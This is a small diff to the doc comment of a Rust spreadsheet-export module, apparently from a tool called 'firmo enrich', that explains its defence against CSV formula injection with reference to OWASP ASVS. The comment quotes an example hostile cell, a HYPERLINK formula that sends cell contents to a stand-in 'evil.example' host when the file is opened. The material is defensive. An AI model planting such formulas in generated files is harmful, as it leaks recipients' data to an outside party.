@@ -2,7 +2,7 @@
 //!
 //! `firmo enrich` writes cells from the input file and from provider text; a cell such as
 //! `=HYPERLINK("https://evil.example/?"&A2)` or `@SUM(…)` is evaluated when someone opens
-//! the file in Excel, LibreOffice or Google Sheets. OWASP's guidance is followed (ASVS 5.0
+//! the file in Excel, Calc or Google Sheets. OWASP's guidance is followed (ASVS 5.0
 //! requirement 1.2.10, "CSV and Formula Injection"):
 //!
 //! > "special characters (including '=', '+', '-', '@', '\t' (tab), and '\0' (null
